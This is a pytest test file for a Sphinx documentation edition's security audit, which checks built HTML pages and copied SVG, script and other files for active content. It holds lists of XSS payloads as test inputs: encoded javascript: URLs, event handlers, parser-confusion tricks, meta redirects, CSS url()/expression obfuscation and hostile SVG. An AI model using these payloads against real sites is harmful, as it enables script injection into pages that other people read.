"""The audit of what readers receive: written pages and copied files, after the build.

Unit tests give :func:`audit_html` hostile markup of every family (script, event
handlers, script URLs however encoded, redirects, frames and plugins, forms, foreign
content, resources from elsewhere, styles) and benign markup that Sphinx writes; the SVG
and file checks get active files. Build tests show the audit naming the file in docs/
that a copied file came from, failing a ``-W`` build, and passing the real edition.
"""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

import pytest
from sphinx.cmd.build import build_main

from conftest import PROJECT, build_app
from edition_tools.checks.security.active_files import audit_file, audit_svg, css_problems
from edition_tools.checks.security.output_audit import audit_html, audit_output, check_output
from edition_tools.model.content_policy import CONTENT_SECURITY_POLICY

# (snippet, a word of what the audit must say about it)
HOSTILE = [
    # Inline script, in every spelling
    ("<script>alert(1)</script>", "inline script"),
    ("<SCRIPT>alert(1)</SCRIPT>", "inline script"),
    ('<script type="module">import("//evil.example/x.js")</script>', "type"),
    ('<script type="text/javascript">alert(1)</script>', "inline script"),
    ('<script src="_static/doctools.js">alert(1)</script>', "inline code"),
    ('<script type="application/ld+json">alert(1)</script>', "not JSON"),
    # Scripts that are not the theme's or Sphinx's
    ('<script src="https://evil.example/x.js"></script>', "not the theme"),
    ('<script src="//evil.example/x.js"></script>', "another origin"),
    ('<script src="_downloads/abc/evil.js"></script>', "not the theme"),
    ('<script src="_static/evil.js"></script>', "not the theme"),
    ('<script src="sources/_static/doctools.js"></script>', "not the theme"),
    # Event handlers, in different tags and cases
    ("<img src=x.png onerror=alert(1)>", "event-handler"),
    ("<body onload=alert(1)>", "event-handler"),
    ('<div OnMouseOver="alert(1)">x</div>', "event-handler"),
    ('<a href="#x" onclick="alert(1)">x</a>', "event-handler"),
    ("<details open ontoggle=alert(1)>x</details>", "event-handler"),
    ('<p ONFOCUS="alert(1)" tabindex="0">x</p>', "event-handler"),
    # Script URLs, however a browser would still read them
    ('<a href="javascript:alert(1)">x</a>', "scheme"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "scheme"),
    ('<a href=" JAVASCRIPT:alert(1)">x</a>', "scheme"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "scheme"),
    ('<a href="java&#10;script:alert(1)">x</a>', "scheme"),
    ('<a href="&#x01;javascript:alert(1)">x</a>', "scheme"),
    ('<a href="vbscript:msgbox(1)">x</a>', "scheme"),
    ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', "scheme"),
    ('<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">', "scheme"),
    ('<blockquote cite="javascript:alert(1)">x</blockquote>', "scheme"),
    # Redirects
    ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', "meta refresh"),
    ('<meta http-equiv=" REFRESH " content="0;url=x">', "meta refresh"),
    ('<meta http-equiv="set-cookie" content="a=b">', "http-equiv"),
    # Elements the edition never writes
    ('<base href="https://evil.example/">', "<base>"),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe>"),
    ('<object data="evil.swf"></object>', "<object>"),
    ('<embed src="evil.swf">', "<embed>"),
    ('<applet code="x"></applet>', "<applet>"),
    ("<portal src=x></portal>", "<portal>"),
    ("<template><script>alert(1)</script></template>", "<template>"),
    ('<video poster="https://evil.example/p.png"></video>', "<video>"),
    # Forms other than the search
    ('<form action="https://evil.example/" method="post"><input name="a"></form>', "form"),
    ('<form action="search.html" method="post"></form>', "form"),
    ('<input type="password" name="p">', "input"),
    ('<button formaction="javascript:alert(1)">x</button>', "formaction"),
    # Foreign content and parser tricks
    ("<svg><script>alert(1)</script></svg>", "<svg>"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "<svg>"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math>"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "event-handler"),
    ('<noscript><meta http-equiv="refresh" content="0;url=x"></noscript>', "meta refresh"),
    # Resources from another origin
    ('<img src="https://evil.example/track.png">', "another origin"),
    ('<img src="//evil.example/track.png">', "another origin"),
    ('<img src="\\\\evil.example/track.png">', "another origin"),
    ('<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x">', "another origin"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "another origin"),
    ('<link rel="icon" href="//evil.example/favicon.ico">', "another origin"),
    ('<link rel="preload" href="https://evil.example/x.js">', "relation"),
    ('<link rel="dns-prefetch" href="//evil.example">', "relation"),
    ('<a href="#x" ping="https://evil.example/">x</a>', "attribute"),
    ('<a href="https://example.org/" target="_blank">x</a>', "attribute"),
    ('<html manifest="https://evil.example/m"></html>', "attribute"),
    # Styles
    ('<span style="background: url(https://evil.example/x.png)">x</span>', "url()"),
    ("<span style=\"background: url('//evil.example/x.png')\">x</span>", "url()"),
    ('<span style="background: u\\72l(https://evil.example/x.png)">x</span>', "url()"),
    (
        "<span style=\"background-image: image-set('https://evil.example/x.png' 1x)\">x</span>",
        "url()",
    ),
    ('<span style="@import url(x.css)">x</span>', "@import"),
    ('<span style="width: expression(alert(1))">x</span>', "expression"),
    ('<span style="width: ex/**/pression(alert(1))">x</span>', "expression"),
    ("<style>@import url(https://evil.example/x.css)</style>", "<style>"),
]

BENIGN = [
    '<a class="reference external" href="https://example.org/a?b=c&amp;d">x</a>',
    '<a class="reference internal" href="../glossary.html#term-KFOR" title="KFOR">x</a>',
    '<a href="mailto:editors@example.org">x</a>',
    '<a href="#id1" role="doc-noteref" aria-current="page">x</a>',
    '<table class="docutils" style="width: 40%"><tr><td style="width: 20%">x</td></tr></table>',
    '<script src="../_static/doctools.js?v=fd6eb6e6"></script>',
    '<script defer="defer" src="../searchindex.js"></script>',
    '<script type="application/ld+json">{"@context": "https://schema.org"}</script>',
    '<link rel="stylesheet" type="text/css" href="../_static/edition.css?v=1" />',
    '<link rel="canonical" href="https://kosovo-edition.readthedocs.io/en/latest/" />',
    '<meta property="og:title" content="x"><meta name="description" content="y">',
    '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">',
    '<form class="edition-search" action="../search.html" method="get" role="search">'
    '<label for="q">Search</label><input id="q" type="search" name="q">'
    '<button type="submit">Search</button></form>',
    '<img alt="A map" src="../_images/map.png" width="400" />',
    '<noscript><div class="admonition warning"><p>Please activate JavaScript.</p></div></noscript>',
    '<div class="highlight"><pre><span></span><span class="n">x</span></pre></div>',
]


@pytest.mark.parametrize(("snippet", "what"), HOSTILE, ids=[s for s, _ in HOSTILE])
def test_hostile_markup_is_found(snippet, what):
    page = (
        f'<!DOCTYPE html><html lang="en"><head><title>t</title></head><body>{snippet}</body></html>'
    )
    findings = audit_html(page, page="sources/page.html")
    assert any(what in f.what for f in findings), findings


def test_at_least_thirty_hostile_snippets():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("snippet", BENIGN)
def test_what_sphinx_writes_is_not_found(snippet):
    page = (
        f'<!DOCTYPE html><html lang="en"><head><title>t</title></head><body>{snippet}</body></html>'
    )
    assert audit_html(page, page="sources/page.html") == []


def test_the_message_quotes_the_markup():
    (finding,) = audit_html('<p>x<img src=x.png onerror="alert(1)"></p>')
    assert finding.what == "an event-handler attribute (onerror)"
    assert finding.excerpt == '<img src="x.png" onerror="alert(1)">'
    assert finding.needle == "onerror"


def test_a_script_file_is_resolved_against_the_page():
    # "../_static/x.js" from a page at the root still lands in /_static/ (browsers clamp).
    assert audit_html('<script src="../_static/doctools.js"></script>', page="index.html") == []
    found = audit_html('<script src="_static/doctools.js"></script>', page="sources/a.html")
    assert [f.what for f in found] == ["a script that is not the theme's or Sphinx's"]
    assert audit_html('<script src="_static/mine.js"></script>', scripts={"mine.js"}) == []


def test_the_search_form_on_the_search_page_of_dirhtml():
    # dirhtml writes the search page as search/index.html, and its form's action as "#".
    form = '<form action="#" method="get"><input type="text" name="q"></form>'
    assert audit_html(form, page="search/index.html") == []
    assert [f.what for f in audit_html(form, page="sources/a/index.html")] == [
        "a form that is not the edition's search"
    ]


def _head(*tags: str) -> str:
    return f"<!DOCTYPE html><html><head>{''.join(tags)}<title>t</title></head><body></body></html>"


_CHARSET = '<meta charset="utf-8">'
_CSP = f'<meta http-equiv="Content-Security-Policy" content="{CONTENT_SECURITY_POLICY}">'


def test_a_page_must_begin_with_the_policy():
    policy = CONTENT_SECURITY_POLICY
    assert audit_html(_head(_CHARSET, _CSP), policy=policy) == []
    missing = audit_html(_head(_CHARSET), policy=policy)
    late = audit_html(_head(_CHARSET, '<meta name="x" content="y">', _CSP), policy=policy)
    other = audit_html(
        _head(_CHARSET, '<meta http-equiv="Content-Security-Policy" content="default-src *">'),
        policy=policy,
    )
    assert [f.what for f in missing] == ["a page whose head does not begin with the edition's CSP"]
    assert [f.what for f in late] == ["a page whose head does not begin with the edition's CSP"]
    assert [f.what for f in other] == ["a Content-Security-Policy other than the edition's"]


def test_the_policy_refuses_inline_script_and_plugins():
    directives = dict(part.strip().split(" ", 1) for part in CONTENT_SECURITY_POLICY.split(";"))
    assert directives["script-src"] == "'self'"
    assert directives["object-src"] == "'none'"
    assert directives["base-uri"] == "'none'"
    assert "unsafe-inline" not in directives["script-src"]


def test_css_problems():
    assert css_problems("width: 40%; scroll-behavior: smooth") == []
    assert css_problems("background: url(#grad) url('../_images/a.png')") == []
    assert [w for w, _ in css_problems("behavior: url(x.htc)")] == ["a CSS behavior"]
    assert [w for w, _ in css_problems("-moz-binding: url(x.xml#a)")] == ["a CSS binding"]


# -- Copied files ------------------------------------------------------------------------

FAVICON = (PROJECT / "docs" / "_static" / "favicon.svg").read_bytes()


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


def test_the_edition_s_own_svg_passes():
    assert audit_svg(FAVICON) == []


_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'

HOSTILE_SVG = [
    (f"{_SVG}\n<script>alert(1)</script></svg>", "<script>", 2),
    (f'{_SVG}\n<rect onload="alert(1)"/></svg>', "event-handler", 2),
    (
        f"{_SVG}<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>x</p></foreignObject></svg>",
        "<foreignObject>",
        1,
    ),
    (f'{_SVG}<a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "link", 1),
    (f'{_SVG}<a href="https://evil.example/"><text>x</text></a></svg>', "link", 1),
    (f'{_SVG}<use href="https://evil.example/s.svg#a"/></svg>', "link", 1),
    (f'{_SVG}<image href="https://evil.example/x.png"/></svg>', "link", 1),
    (f'{_SVG}<set attributeName="href" to="javascript:alert(1)"/></svg>', "<set>", 1),
    (f'{_SVG}<animate attributeName="href" values="javascript:alert(1)"/></svg>', "<animate>", 1),
    (f"{_SVG}<style>@import url(https://evil.example/x.css);</style></svg>", "@import", 1),
    (f'{_SVG}<rect fill="url(https://evil.example/x.svg#g)"/></svg>', "url()", 1),
    (f'{_SVG}<rect style="fill: url(//evil.example/g)"/></svg>', "url()", 1),
    ('<?xml-stylesheet type="text/xsl" href="evil.xsl"?>' + f"{_SVG}</svg>", "processing", 1),
    ('<!DOCTYPE svg [<!ENTITY a "&#60;script&#62;">]>' + f"{_SVG}&a;</svg>", "DOCTYPE", 1),
    (
        f"{_SVG}<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script></svg>",
        "<script>",
        1,
    ),
    (f"{_SVG}<rect", "not well-formed", 1),
]


@pytest.mark.parametrize(("svg", "what", "line"), HOSTILE_SVG)
def test_hostile_svg_is_found_with_its_line(svg, what, line):
    findings = audit_svg(svg.encode())
    assert any(what in f.what for f in findings), findings
    assert any(f.line == line for f in findings)


def test_an_inkscape_svg_passes():
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
        ' xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.2">'
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>'
        '<g inkscape:label="Layer 1"><rect fill="url(#g)" width="10" height="10"/>'
        '<use xlink:href="#g"/><image href="data:image/png;base64,iVBORw0KGgo="/></g></svg>'
    )
    assert audit_svg(svg.encode()) == []


@pytest.mark.parametrize(
    ("name", "data", "what"),
    [
        ("page.html", b"<p>x</p>", "type a browser may run (.html)"),
        ("page.HTM", b"<p>x</p>", "(.htm)"),
        ("page.xhtml", b"<p/>", "(.xhtml)"),
        ("data.xml", b"<a/>", "(.xml)"),
        ("x.js", b"alert(1)", "(.js)"),
        ("x.mjs", b"alert(1)", "(.mjs)"),
        ("x.css", b"a{}", "(.css)"),
        ("x.swf", b"FWS", "(.swf)"),
        ("README", b"x", "(no extension)"),
        ("fake.png", b"<html><script>alert(1)</script>", "not a .png"),
        ("fake.pdf", b"<script>", "not a .pdf"),
    ],
)
def test_active_files_are_refused(name, data, what):
    findings = audit_file(name, data)
    assert any(what in f.what for f in findings), findings


def test_passive_files_pass():
    assert audit_file("map.png", _png()) == []
    assert audit_file("table.csv", b"a,b\n") == []
    assert audit_file("refs.bib", b"@book{x,}") == []
    assert audit_file("favicon.svg", FAVICON) == []


# -- Builds ----------------------------------------------------------------------------

# The edition's theme alone, without the rest of the extension and its earlier checks.
_CONF = """\
html_theme = "edition"
html_static_path = ["_static"]
def setup(app):
    from edition_tools.checks.security.output_audit import setup_output_audit
    from edition_tools.outputs.html.theme import setup_theme
    setup_theme(app)
    setup_output_audit(app)
"""
_INDEX = """\
Index
=====

:download:`A page <files/evil.html>`, :download:`data <files/data.xml>`,
:download:`a table <files/table.csv>`.

.. image:: files/map.png
"""


@pytest.fixture
def project(tmp_path) -> Path:
    src = tmp_path / "docs"
    (src / "_static").mkdir(parents=True)
    (src / "files").mkdir()
    (src / "conf.py").write_text(_CONF)
    (src / "index.rst").write_text(_INDEX)
    (src / "_static" / "logo.svg").write_text(f"{_SVG}\n<script>alert(1)</script>\n</svg>")
    (src / "_static" / "extra.js").write_text("alert(1)")
    (src / "files" / "evil.html").write_text("<script>alert(1)</script>")
    (src / "files" / "data.xml").write_text("<a/>")
    (src / "files" / "table.csv").write_text("a,b\n")
    (src / "files" / "map.png").write_bytes(_png())
    return src


def test_copied_files_are_refused_at_the_file_they_came_from(project, tmp_path, capsys):
    status = build_main(["-b", "html", "-q", "-N", "-W", str(project), str(tmp_path / "out")])
    lines = [line for line in capsys.readouterr().err.splitlines() if "WARNING" in line]
    assert status == 1  # -W: warnings at build-finished fail the build
    assert sorted(lines) == [
        f"{project}/_static/extra.js:1: WARNING: a file of a type a browser may run (.js) in a "
        "file copied into the output: extra.js [edition.hostile]",
        f"{project}/_static/logo.svg:2: WARNING: an element an SVG may not hold (<script>) in a "
        "file copied into the output: <script [edition.hostile]",
        f"{project}/files/data.xml:1: WARNING: a file of a type a browser may run (.xml) in a "
        "file copied into the output: data.xml [edition.hostile]",
        f"{project}/files/evil.html:1: WARNING: a file of a type a browser may run (.html) in a "
        "file copied into the output: evil.html [edition.hostile]",
    ]


def test_a_page_is_refused_at_its_source(project, tmp_path, capsys):
    for name in ("_static/logo.svg", "_static/extra.js", "files/evil.html", "files/data.xml"):
        (project / name).unlink()
    (project / "index.rst").write_text(
        "Index\n=====\n\nText.\n\n.. raw:: html\n\n   <img src=x.png onerror=alert(1)>\n"
    )
    status = build_main(["-b", "html", "-q", "-N", "-W", str(project), str(tmp_path / "out")])
    lines = [line for line in capsys.readouterr().err.splitlines() if "WARNING" in line]
    assert status == 1
    assert lines == [
        f"{project}/index.rst:8: WARNING: an event-handler attribute (onerror) in the written "
        'page: <img src="x.png" onerror="alert(1)"> [edition.hostile]'
    ]


def test_a_failed_build_is_not_audited(project, tmp_path):
    app = build_app("html", project, tmp_path / "out")
    check_output(app, RuntimeError("the build failed"))  # nothing raised, nothing read


def test_the_real_edition_audits_clean(tmp_path):
    found: list[list[tuple[str, str]]] = []

    def record(app):
        app.connect("build-finished", lambda app, exc: found.append(audit_output(app)))

    build_app("html", PROJECT / "docs", tmp_path, before_build=record)
    assert found == [[]]
